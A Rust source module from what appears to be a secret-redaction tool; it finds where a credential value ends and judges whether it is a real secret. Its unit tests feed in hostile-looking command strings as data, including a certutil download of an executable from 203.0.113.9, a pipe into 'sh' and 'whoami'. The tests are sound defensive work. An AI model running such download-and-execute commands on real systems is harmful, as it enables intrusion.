//! Where a value ends, and whether it is worth masking.

use super::keys::{self, Announces};
use super::payload;
use super::spans;
use crate::text::is_listed;

/// How a value is set off from its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Joint {
    /// `name=value`.
    Equals,
    /// `name: value`, which is also how people write.
    Colon,
    /// `--name value`.
    Flag,
    /// `<name>value</name>`.
    Element,
    /// `name value`, in a command that sets something.
    Blank,
}

/// A value's place in bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Value {
    pub(super) start: usize,
    pub(super) end: usize,
    pub(super) quoted: bool,
}

const QUOTES: [char; 9] = ['"', '\'', '`', '“', '”', '‘', '’', '«', '»'];
/// How much of a value is looked at to judge it, in bytes; [`whole`] finds the end of a longer one.
pub(super) const LONGEST: usize = 1024;

/// Longest rest of a line that was cut within quotes.
const LONGEST_CUT: usize = 256;
/// Signs at the end of a word that close what was opened before it.
const CLOSERS: usize = 4;

/// Finds the value that begins at `at`.
pub(super) fn extent(text: &str, at: usize, joint: Joint) -> Option<Value> {
    let rest = text.get(at..)?;
    if joint == Joint::Element {
        let end = element_end(rest, spans::floor(rest, LONGEST))?;
        return Some(Value {
            start: at,
            // Lines and signs of its own may stand in an element, what joins commands may not: `&` is written `&amp;`.
            end: before_any(&[" & ", " && ", " | ", " || "], text, at, at + end),
            quoted: true,
        });
    }
    if let Some(quote) = opening_quote(rest) {
        let start = at + quote.len;
        let end = closing_quote(&text[start..], &quote)
            .map(|close| start + close.start)
            .or_else(|| far_end(text, start, &quote))
            .or_else(|| cut_end(text, start))
            .unwrap_or_else(|| unquoted_end(text, start, joint));
        return Some(Value {
            start,
            end: before_command(text, start, end),
            quoted: true,
        });
    }
    if spans::starts_with_mask(rest) {
        return None;
    }
    // `Pwd={a;b};` of a connection string.
    if joint == Joint::Equals
        && rest.starts_with('{')
        && !rest.starts_with("{{")
        && let Some(close) = rest[..spans::floor(rest, LONGEST)].find('}')
        && rest[close + 1..].starts_with(';')
    {
        return Some(Value {
            start: at + 1,
            end: at + close,
            quoted: true,
        });
    }
    let end = unquoted_end(text, at, joint);
    Some(Value {
        start: at,
        end,
        quoted: false,
    })
}

/// Follows a value that is longer than what was looked at to its end.
pub(super) fn whole(text: &str, value: Value, joint: Joint) -> Value {
    if value.end - value.start + 4 < LONGEST {
        return value;
    }
    let end = match joint {
        Joint::Element => {
            let rest = &text[value.start..];
            element_end(rest, rest.len()).map_or(value.end, |end| value.start + end)
        }
        _ => end_within(text, value.start, joint, text.len()),
    };
    Value {
        end: end.max(value.end),
        ..value
    }
}

// Where the text of an element ends. One that is not closed was cut, and has one word of it: `<password>` with a sentence, a command
// or another tag behind it is a placeholder in a manual.
fn element_end(text: &str, most: usize) -> Option<usize> {
    let end = text[..most].find('<').unwrap_or(most);
    if text[end..].starts_with("</") {
        return Some(end);
    }
    if end < most {
        return None;
    }
    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ';' | '|' | '&' | '>');
    let word = text[..end].find(ends).unwrap_or(end);
    (!text.starts_with([',', '.', ':', ')', ']', '}']) && word > 0).then_some(word)
}

/// An opening quote: its bytes with the backslashes before it, and what closes it.
#[derive(Debug, Clone, Copy)]
pub(super) struct Quote {
    pub(super) len: usize,
    backslashes: usize,
    close: char,
}

impl Quote {
    /// What a later quote must equal to be closed by the same.
    pub(super) fn style(&self) -> (usize, char) {
        (self.backslashes, self.close)
    }
}

/// Reads an opening quote, behind any number of backslashes and one letter of a string literal (`N'…'`, `r"…"`, `@"…"`).
pub(super) fn opening_quote(text: &str) -> Option<Quote> {
    let bytes = text.as_bytes();
    let mut prefix = 0;
    if matches!(
        bytes,
        [
            b'N' | b'n' | b'r' | b'b' | b'u' | b'f' | b'E' | b'@' | b'$',
            b'"' | b'\'',
            ..
        ]
    ) {
        prefix = 1;
    }
    let backslashes = bytes[prefix..].iter().take(8).take_while(|&&b| b == b'\\').count();
    let quote = text[prefix + backslashes..]
        .chars()
        .next()
        .filter(|c| QUOTES.contains(c))?;
    let close = match quote {
        '“' => '”',
        '‘' => '’',
        '«' => '»',
        same => same,
    };
    Some(Quote {
        len: prefix + backslashes + quote.len_utf8(),
        backslashes,
        close,
    })
}

/// Where a closing quote with its backslashes begins and ends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Closing {
    pub(super) start: usize,
    pub(super) end: usize,
}

/// Finds where the quoted text ends. The closing quote has as many backslashes before it as the opening one.
pub(super) fn closing_quote(text: &str, quote: &Quote) -> Option<Closing> {
    closing_quote_within(text, quote, LONGEST)
}

/// The same, if it ends within so many bytes.
pub(super) fn closing_quote_within(text: &str, quote: &Quote, most: usize) -> Option<Closing> {
    let mut slashes = 0;
    let mut skip = false;
    for (at, c) in text.char_indices().take_while(|&(at, _)| at < most) {
        if skip {
            skip = false;
            slashes = 0;
            continue;
        }
        if c == '\n' && quote.backslashes == 0 && quote.close != '"' {
            return None;
        }
        if c == '\\' {
            slashes += 1;
            continue;
        }
        if c == quote.close {
            let doubled = quote.backslashes == 0 && text[at + c.len_utf8()..].starts_with(c) && matches!(c, '\'' | '"');
            let next = text[at + c.len_utf8()..].chars().next();
            if doubled
                && slashes == 0
                && text[at + 2 * c.len_utf8()..]
                    .chars()
                    .next()
                    .is_some_and(char::is_alphanumeric)
            {
                skip = true;
                continue;
            }
            let ends_word =
                next.is_none_or(|c| c.is_whitespace() || matches!(c, ',' | ';' | ')' | '}' | ']' | '&' | '|'));
            let escaped = if quote.backslashes == 0 {
                slashes % 2 == 1 && !ends_word
            } else {
                slashes > quote.backslashes
            };
            if !escaped {
                return Some(Closing {
                    start: at - slashes.min(quote.backslashes),
                    end: at + c.len_utf8(),
                });
            }
        }
        slashes = 0;
    }
    None
}

/// What stands before the next parameter of a link.
pub(super) fn parameter(word: &str) -> &str {
    word.match_indices('&')
        .find(|&(at, _)| names_another(&word[at + 1..]))
        .map_or(word, |(at, _)| &word[..at])
}

/// A word without what at its end closes something that was opened before it: `-pX)` of `$(mysql -pX)`, `X"}`.
pub(super) fn own(word: &str) -> &str {
    let count = |end: usize, sign: char| word[..end].matches(sign).count();
    let mut end = word.len();
    for _ in 0..CLOSERS {
        let closes = match word[..end].chars().next_back() {
            Some(')') => count(end, ')') > count(end, '('),
            Some(']') => count(end, ']') > count(end, '['),
            Some('}') => count(end, '}') > count(end, '{'),
            Some(quote @ ('"' | '\'' | '`')) => count(end, quote) % 2 == 1,
            _ => false,
        };
        if !closes {
            break;
        }
        end -= 1;
    }
    &word[..end]
}

// A quoted value longer than what is looked at ends at the next such quote, or with its line: at its first blank most of it would stay.
fn far_end(text: &str, start: usize, quote: &Quote) -> Option<usize> {
    let rest = &text[start..];
    let (looked_at, beyond) = rest.split_at(spans::floor(rest, LONGEST));
    if beyond.is_empty() || looked_at.contains('\n') {
        return None;
    }
    let end = beyond.find([quote.close, '\n']).unwrap_or(beyond.len());
    Some(start + looked_at.len() + beyond[..end].trim_end_matches('\\').len())
}

// A line that was cut before its closing quote: the words up to its end, or to the next switch, link, path or pair of it.
fn cut_end(text: &str, start: usize) -> Option<usize> {
    let rest = &text[start..spans::floor(text, start + LONGEST_CUT)];
    let line = rest.lines().next().filter(|line| !line.starts_with(' '))?;
    let mut end = 0;
    for (at, word) in line.split(' ').enumerate() {
        let goes_on = word.starts_with(['-', '/', '<', '>', '|', '&', '"', '\'']) || word.contains(['\\', '=']);
        if at > 0 && (goes_on || word.contains("://")) || word.ends_with([';', '|', '&']) {
            break;
        }
        end += word.len() + usize::from(at > 0);
    }
    (end > 0).then_some(start + end)
}

/// Follows a word behind an opening quote that is never closed to the end of what was cut.
pub(super) fn past_cut(text: &str, start: usize, end: usize) -> usize {
    let quote = text[..start].chars().next_back().filter(|c| matches!(c, '"' | '\''));
    let Some(quote) = quote.filter(|_| text[end..].starts_with(' ')) else {
        return end;
    };
    let line = text[end..spans::floor(text, end + LONGEST)]
        .lines()
        .next()
        .unwrap_or_default();
    if line.contains(quote) {
        return end;
    }
    cut_end(text, start).map_or(end, |cut| before_command(text, start, cut).max(end))
}

// A value in quotes that goes on with a command is no value: the mask must not hide the command.
pub(super) fn before_command(text: &str, start: usize, end: usize) -> usize {
    before_any(&[" & ", " && ", " | ", " || ", "; ", "\n"], text, start, end)
}

fn before_any(joints: &[&str], text: &str, start: usize, end: usize) -> usize {
    let value = &text[start..end];
    let cut = joints.iter().filter_map(|joint| value.find(joint)).min();
    cut.map_or(end, |at| start + value[..at].trim_end().len())
}

fn unquoted_end(text: &str, start: usize, joint: Joint) -> usize {
    end_within(text, start, joint, LONGEST)
}

fn end_within(text: &str, start: usize, joint: Joint, most: usize) -> usize {
    let value = &text[start..spans::floor(text, start.saturating_add(most))];
    let mut open = 0_i32;
    for (at, c) in value.char_indices() {
        let after = &value[at + c.len_utf8()..];
        let next = after.chars().next();
        let word_ends = next.is_none_or(|c| {
            c.is_whitespace()
                || matches!(
                    c,
                    ',' | ';' | ')' | '}' | ']' | '[' | '"' | '\'' | '&' | '|' | '>' | '<'
                )
        });
        let ends = match c {
            c if c.is_whitespace() => true,
            ';' | '|' | '"' | '<' | '“' | '”' => true,
            '&' => joint != Joint::Flag || word_ends,
            '\\' => next.is_some_and(|c| {
                matches!(c, '"' | '\'' | 'n' | 'r') && (c == '"' || c == '\'' || text[..start].ends_with(['"', '\\']))
            }),
            ',' => word_ends || names_another(after),
            '(' | '{' | '[' => {
                open += 1;
                false
            }
            ')' | '}' | ']' if open > 0 => {
                open -= 1;
                false
            }
            ')' | '}' | ']' | '>' | '\'' | '`' => word_ends,
            _ => false,
        };
        if ends {
            return start + at;
        }
    }
    start + value.len()
}

// `replicas=3` after a comma: the next entry of a list.
fn names_another(text: &str) -> bool {
    let name = text
        .bytes()
        .take(48)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b' '))
        .count();
    name > 0 && matches!(text.as_bytes().get(name), Some(b'=' | b':'))
}

/// Says whether this is a secret, given what its name announces.
pub(super) fn is_secret(value: &str, announces: Announces, joint: Joint) -> bool {
    let value = value.trim();
    if value.is_empty() || spans::is_masked(value) {
        return false;
    }
    if is_reference(value) || is_placeholder(value) {
        return false;
    }
    let prose = matches!(joint, Joint::Colon | Joint::Blank);
    if prose && value.starts_with(['[', '{']) || value.starts_with("[\"") || value.starts_with("{\"") {
        return false;
    }
    // `Password section: Note: …`: what ends with a colon is the next name.
    if prose
        && value
            .strip_suffix(':')
            .is_some_and(|name| name.bytes().all(|b| b.is_ascii_alphabetic()))
    {
        return false;
    }
    // `passwd: password unchanged`
    if prose && value.bytes().all(|b| b.is_ascii_lowercase()) && keys::announces(value).is_some() {
        return false;
    }
    if is_path(value) {
        return false;
    }
    if says_state(value) {
        return false;
    }
    match announces {
        Announces::Password => !(prose && value.chars().all(|c| !c.is_alphanumeric())),
        // The id of an AWS key is needed to revoke it; a SID is looked up.
        Announces::Token if names_algorithm(value) || repeats_markup(value) => false,
        Announces::Token => looks_made(value, 6) && !["AKIA", "ASIA", "S-1-"].iter().any(|id| value.starts_with(id)),
        Announces::Request => is_secret(value, Announces::Token, joint) && !is_identifier(value),
        Announces::Pin => (4..=8).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_digit()),
        Announces::Session => looks_random(value, 12) && !is_identifier(value),
        Announces::Signature => looks_made(value, 16),
    }
}

/// Says whether a machine made this text: letters and digits mixed, or both cases, or long, and no sentence.
pub(super) fn looks_made(value: &str, least: usize) -> bool {
    if value.len() < least || value.contains(' ') {
        return false;
    }
    let has = |test: fn(&u8) -> bool| value.as_bytes().iter().any(test);
    let (digit, lower, upper) = (
        has(u8::is_ascii_digit),
        has(u8::is_ascii_lowercase),
        has(u8::is_ascii_uppercase),
    );
    let letters = lower || upper;
    digit && letters
        || lower && upper && value.len() >= 12
        || value.len() >= 24 && letters
        || digit && value.len() >= 16
        || !value.is_ascii()
}

// Letters and digits mixed throughout: not a word with a number at its end.
fn looks_random(value: &str, least: usize) -> bool {
    let changes = value
        .as_bytes()
        .windows(2)
        .filter(|pair| pair[0].is_ascii_digit() != pair[1].is_ascii_digit())
        .count();
    looks_made(value, least) && changes >= 4
}

// `AES-256-GCM`: how a key is used.
fn names_algorithm(value: &str) -> bool {
    const NAMES: &str = "\
        AES RSA SHA MD DES TDES ECDSA ECDH ECDHE DHE DH DSA CHACHA POLY ED HMAC GCM CBC CTR CCM ECB CFB OFB XTS WITH PKCS PSS OAEP EDE \
        NULL P";
    const NUMBERS: &str = "1 2 3 5 20 64 128 192 224 256 384 512 521 1024 1305 2048 3072 4096 8192 25519";
    let mut parts = value.split(['-', '_', '/']);
    value.starts_with(|c: char| c.is_ascii_uppercase() || c == '3')
        && parts.all(|part| {
            let name = part.trim_end_matches(|c: char| c.is_ascii_digit());
            let number = &part[name.len()..];
            part == "3DES"
                || !part.is_empty()
                    && (name.is_empty() || is_listed(NAMES, name))
                    && (number.is_empty() || is_listed(NUMBERS, number))
        })
}

// The beginning of an answer of SAML again and again fills a parameter, and tells nothing: a long link is to be seen, not to log in.
fn repeats_markup(value: &str) -> bool {
    const BEGIN: &str = "PHNhbWxw";
    value.starts_with(BEGIN)
        && value[BEGIN.len()..].find(BEGIN).is_some_and(|at| {
            at <= 64 && value.len() >= 256 && value.ends_with(&value[..value.len() - at - BEGIN.len()])
        })
}

/// GUIDs, SIDs and numbers of sessions are looked up, not stolen.
pub(super) fn is_identifier(value: &str) -> bool {
    let bare = value.trim_matches(|c| matches!(c, '{' | '}' | '"'));
    bare.starts_with("S-1-")
        || bare.starts_with("0x")
        || bare.len() == 36
            && bare.bytes().filter(|&b| b == b'-').count() == 4
            && bare.bytes().all(|b| b == b'-' || b.is_ascii_hexdigit())
}

// A variable or an expression stands where the secret will be.
fn is_reference(value: &str) -> bool {
    const CALLS: &str = "\
        convertto-securestring read-host get-credential getpass input( prompt( os.environ os.getenv getenv \
        environ process.env system.getenv env. secrets. vault: file: env: fd: stdin (convertto (get- (read- \
        [system. new-object !vault !secret !ref !sub !getatt !env";
    if value.starts_with("%%") && value[2..].bytes().all(|b| b.is_ascii_digit()) {
        return true;
    }
    let variable = |name: &str| {
        !name.is_empty()
            && name
                .bytes()
                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
    };
    if let Some(name) = value.strip_prefix('%').and_then(|rest| rest.strip_suffix('%')) {
        return !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    }
    if let Some(name) = value.strip_prefix('$') {
        // `$_POST['password']` of PHP.
        if let Some((array, _)) = name.split_once('[')
            && array.strip_prefix('_').is_some_and(variable)
        {
            return true;
        }
        let lower = name.to_ascii_lowercase();
        return variable(name)
            || name.starts_with(['{', '(']) && !goes_on(value)
            || lower.starts_with("env:")
            || matches!(
                lower.as_str(),
                "password"
                    | "passwd"
                    | "pass"
                    | "pwd"
                    | "secret"
                    | "token"
                    | "cred"
                    | "creds"
                    | "credential"
                    | "pw"
                    | "securepassword"
                    | "null"
            )
            || name.bytes().all(|b| b.is_ascii_digit())
            // `$DomainAdministratorCredential`, `$cred.Password`: a name in several words that itself announces a secret.
            || names_a_secret(name);
    }
    let lower = value.to_ascii_lowercase();
    CALLS.split(' ').any(|call| lower.starts_with(call)) || value.starts_with("{{") || value.starts_with("<%")
}

// `${x}Hallo99`: a password may begin like a reference. `${x}/y`, `${x}:${y}` are more of it.
fn goes_on(value: &str) -> bool {
    let behind = payload::behind_group(value);
    !behind.starts_with(['/', '\\', '.', ':', '-', '_', ' ', '"', '\''])
        && behind.chars().filter(|c| c.is_alphanumeric()).count() >= 6
}

/// `request.getParameter(`, `config.get('x`, `yup.string().min(8)`: a call of program code, of which a quote may have ended the value.
/// A password may have that shape too, so only where program code assigns it is it none.
pub(super) fn is_expression(value: &str) -> bool {
    let Some((called, given)) = value.split_once('(') else {
        return false;
    };
    let mut names = called.split(['.', ':', '>']);
    let is_name = |name: &str| {
        let name = name.trim_end_matches(['-', '?']);
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_' || c == '$')
            && name[1..].bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    };
    let alone = !called.contains('.');
    let empty = given.is_empty() || given.starts_with(')');
    names.all(is_name) && (!alone || empty && !called.bytes().any(|b| b.is_ascii_digit()))
}

/// `req.headers.authorization`, `form.password`: where a program keeps it. Words with a full stop between them may be a password.
pub(super) fn is_member(value: &str) -> bool {
    const HOLDERS: &str = "self this req request config settings args ctx";
    value
        .split_once('.')
        .is_some_and(|(first, _)| is_listed(HOLDERS, first) || keys::announces(value).is_some())
        && value
            .split('.')
            .all(|name| name.len() > 1 && name.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_'))
}

fn names_a_secret(name: &str) -> bool {
    // Event data writes the end of a line in two characters.
    let name = name.trim_end_matches("\\n").trim_end_matches("\\r");
    let letters = name
        .bytes()
        .all(|b| b.is_ascii_alphabetic() || matches!(b, b'_' | b'.' | b':'));
    let words = name
        .bytes()
        .skip(1)
        .any(|b| b.is_ascii_uppercase() || matches!(b, b'_' | b'.'));
    letters && words && keys::announces(name).is_some()
}

// `<password>`, `***`, `xxxx`, `…`: somebody else hid it already, or it is documentation.
fn is_placeholder(value: &str) -> bool {
    // `*cred*` is a search.
    if value.len() > 2 && value.starts_with('*') && value.ends_with('*') {
        return true;
    }
    if value.starts_with('<') && value.ends_with('>') || value.starts_with("[cut ") {
        return true;
    }
    if value.starts_with("[REDACTED") {
        // Masks may stand side by side; only what is glued to the last one is the rest of a secret.
        let mut behind = value;
        while behind.starts_with("[REDACTED") {
            behind = behind.split_once(']').map_or("", |(_, behind)| behind);
        }
        return !behind.starts_with(char::is_alphanumeric);
    }
    // `validationKey="AutoGenerate,IsolateApps"` of .NET.
    if value.starts_with("AutoGenerate") {
        return true;
    }
    // Sysmon writes so in the place of what is no text.
    if value == "Binary Data" || value.starts_with("DWORD (0x") || value.starts_with("QWORD (0x") {
        return true;
    }
    // CloudTrail writes so in the place of a password.
    if ["HIDDEN_DUE_TO_", "REDACTED_", "MASKED_", "sensitiveDataRemoved"]
        .iter()
        .any(|start| value.starts_with(start))
        && value.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_')
    {
        return true;
    }
    let mut chars = value.chars();
    let first = chars.next().unwrap_or(' ');
    matches!(first, '*' | 'x' | 'X' | '.' | '•' | '-' | '_' | '#' | '?' | '…') && chars.all(|c| c == first)
}

/// `C:\x`, `c:/x`.
pub(super) fn begins_with_drive(text: &str) -> bool {
    matches!(text.as_bytes(), [drive, b':', b'\\' | b'/', _, ..] if drive.is_ascii_alphabetic())
}

/// `--secret id=npm`, `--secret db_pass_v2`: words of a name, one of which says what it is the name of.
pub(super) fn names_secret(value: &str) -> bool {
    let is_word = |part: &str| {
        let letters = part.trim_end_matches(|c: char| c.is_ascii_digit());
        part.len() - letters.len() <= 2 && letters.bytes().all(|b| b.is_ascii_lowercase()) && !letters.is_empty()
    };
    let mut parts = value.split(['_', '-', '.', '/']);
    let pair = ["id=", "source=", "src=", "type="]
        .iter()
        .any(|key| value.starts_with(key));
    pair || value.contains(['_', '-', '.', '/'])
        && parts.clone().all(is_word)
        && (parts.any(|part| keys::announces(part).is_some()) || keys::announces(value).is_some())
}

// A path or a file name is where a secret may be, and evidence.
fn is_path(value: &str) -> bool {
    const FILES: &str = "\
        php txt html htm asp aspx jsp js css py sh ps1 exe dll bat json xml yml yaml conf cfg ini log csv \
        xlsx docx pdf db key pem kdbx lst";
    let named = |text: &str| {
        text.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b' ' | b'/' | b'\\' | b'*' | b'~' | b'$')
        })
    };
    if value.starts_with("//") || value.starts_with("\\\\") {
        return true;
    }
    // `a://word` is no path.
    if begins_with_drive(value) && value[1..].strip_prefix("://").is_none_or(|rest| rest.contains('/')) {
        return true;
    }
    if value.starts_with("./") || value.starts_with("../") || value.starts_with("~/") {
        return true;
    }
    if value.starts_with('/') && named(value) {
        let inner = value.trim_matches('/');
        return inner.contains('/')
            || value.ends_with('/')
            || inner.len() >= 2 && inner.bytes().all(|b| b.is_ascii_lowercase() || b == b'.' || b == b'_');
    }
    value.rsplit_once('.').is_some_and(|(stem, ending)| {
        is_listed(FILES, &ending.to_ascii_lowercase())
            && !stem.is_empty()
            && stem
                .bytes()
                .all(|b| b.is_ascii_lowercase() || matches!(b, b'_' | b'-' | b'/' | b'.'))
    })
}

/// Whether this is a file, whatever the case of its letters, or a pattern for files: `src/*.php`, `app settings.ini`.
pub(super) fn is_file_name(value: &str) -> bool {
    const KINDS: &str = "\
        php txt html htm asp aspx jsp js jsx ts tsx css py sh ps1 exe dll bat cmd vbs json xml yml yaml conf config cfg ini log \
        csv xlsx docx pdf db java cs go rs rb env";
    let named = |b: u8| b.is_ascii_alphanumeric() || b" ._-/\\*?".contains(&b);
    value
        .rsplit_once('.')
        .is_some_and(|(stem, kind)| is_listed(KINDS, &kind.to_ascii_lowercase()) && stem.bytes().all(named))
}

/// Whether this can be a word of a sentence: letters of one case, or one capital before small ones, with a sign of the sentence behind them.
pub(super) fn is_word(text: &str) -> bool {
    let letters = text.trim_end_matches(['.', ',', ':', ';', '!', '?', ')']);
    let small = |c: char| c.is_lowercase() || matches!(c, '-' | '\'');
    let capital = letters.chars().next().is_some_and(char::is_alphabetic) && letters.chars().skip(1).all(small);
    capital || !letters.is_empty() && letters.chars().all(char::is_uppercase)
}

// Words that people and programs write after the name of a secret without telling it.
pub(super) fn says_state(value: &str) -> bool {
    const STATES: &str = "\
        true false yes no all any null none nil undefined empty set unset unknown n/a missing present absent \
        requisite sufficient substack include invalid valid incorrect correct wrong bad expired expires changed change updated reset failed \
        failure fail failures success successful succeeded accepted rejected denied required optional \
        disabled enabled locked hidden protected masked redacted removed encrypted plaintext the a an is \
        was has have not for of to in on and or must should will can cannot does do be user users string \
        str bool int object clear type bearer basic negotiate ntlm kerberos digest authentication authorization \
        error errors mismatch 0 1 -1 never retype re-enter reenter";
    let word = value
        .trim_end_matches(['.', ',', ':', '!', ')', ';'])
        .to_ascii_lowercase();
    is_listed(STATES, &word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn value(text: &str, joint: Joint) -> &str {
        let value = extent(text, 0, joint).unwrap();
        &text[value.start..value.end]
    }

    #[test]
    fn a_value_ends_where_its_syntax_ends() {
        assert_eq!(value("Helm-Pa55,replicas=3", Joint::Equals), "Helm-Pa55");
        assert_eq!(value("Sv(Pass9 rest", Joint::Equals), "Sv(Pass9");
        assert_eq!(value("\"two words\" rest", Joint::Equals), "two words");
        assert_eq!(value("\\\"Pa55 w0rd x\\\" y", Joint::Equals), "Pa55 w0rd x");
        assert_eq!(value("abc;next", Joint::Equals), "abc");
        assert_eq!(value("C0nnStr!ng;Encrypt", Joint::Equals), "C0nnStr!ng");
        assert_eq!(value("'it''s' x", Joint::Equals), "it''s");
        assert_eq!(value("x)y)", Joint::Equals), "x)y");
        assert_eq!(value("hunter2</password>", Joint::Element), "hunter2");
    }

    #[test]
    fn a_placeholder_in_a_sentence_is_no_element() {
        for behind in [
            " EOF The user and",
            "\" & certutil -urlcache -split -f http://203.0.113.9/p.exe p.exe",
            "\" accepted",
            ", then confirm at https://example.com/help",
            "<host> and",
        ] {
            assert_eq!(extent(behind, 0, Joint::Element), None, "{behind}");
        }
        assert_eq!(value("hunter2 & certutil -f http://h/p.exe", Joint::Element), "hunter2");
        assert_eq!(value("hunter2 & echo </password>", Joint::Element), "hunter2");
        assert_eq!(value("!Dingo88\" z", Joint::Element), "!Dingo88");
        let long = "x".repeat(2 * LONGEST);
        let cut = format!("{long} & whoami");
        let found = extent(&cut, 0, Joint::Element).unwrap();
        assert_eq!(whole(&cut, found, Joint::Element).end, long.len());
        assert_eq!(value("hunter2", Joint::Element), "hunter2");
        assert_eq!(value(" hunter2 </password>", Joint::Element), " hunter2 ");
    }

    #[test]
    fn the_name_of_a_request_is_kept_only_as_an_identifier() {
        let guid = "C265B64D-B8B2-4C8F-912B-A346F34FC63A";
        assert!(!is_secret(guid, Announces::Request, Joint::Equals));
        assert!(is_secret(guid, Announces::Token, Joint::Equals));
        assert!(is_secret("k3Jd83jslLw02mZq", Announces::Request, Joint::Equals));
    }

    #[test]
    fn a_mask_never_swallows_the_command_behind_it() {
        assert_eq!(
            value(
                "\" & certutil -urlcache -f http://203.0.113.9/a.exe a.exe & \"",
                Joint::Equals
            ),
            ""
        );
        assert_eq!(value("\"abc | sh\"", Joint::Equals), "abc");
    }

    #[test]
    fn states_references_and_paths_are_no_secrets() {
        for kept in [
            "%%1842",
            "$PGPASSWORD",
            "${DB}",
            "/etc/passwd",
            "C:\\Users\\x",
            "true",
            "***",
            "<password>",
            "password.php",
            "/etc/",
            "$DomainAdministratorCredential",
            "$SafemodeAdministratorPassword.Password",
            "$DomainAdministratorCredential\\n",
            "HIDDEN_DUE_TO_SECURITY_REASONS",
            "requisite",
            "subsection:",
        ] {
            assert!(!is_secret(kept, Announces::Password, Joint::Colon), "{kept}");
        }
        for secret in [
            "hunter2",
            "Sommer2026x",
            "$ecret!9",
            "$ecretWord",
            "$UperPassword1",
            "HIDDEN_4x7",
            "/8fj3k+3kd=",
            "z",
        ] {
            assert!(is_secret(secret, Announces::Password, Joint::Equals), "{secret}");
        }
    }
}
